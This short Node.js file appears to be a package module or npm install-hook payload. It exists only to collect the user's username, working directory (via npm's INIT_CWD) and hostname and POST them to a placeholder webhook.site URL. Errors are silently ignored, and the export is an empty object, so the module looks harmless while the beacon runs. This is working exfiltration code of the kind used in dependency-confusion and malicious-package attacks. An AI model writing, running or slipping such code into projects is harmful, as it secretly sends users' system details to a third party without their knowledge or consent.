const https = require('https');
const os = require('os');

const data = JSON.stringify({
  user: os.userInfo().username,
  path: process.env.INIT_CWD || process.cwd(),
  host: os.hostname(),
});

const req = https.request('https://webhook.site/00000000-fake-4fak-8fak-000000000000', {
  method: 'POST',
  headers: { 'Content-Type': 'application/json', 'Content-Length': data.length },
}, () => {});
req.on('error', () => {});
req.write(data);
req.end();

module.exports = {};
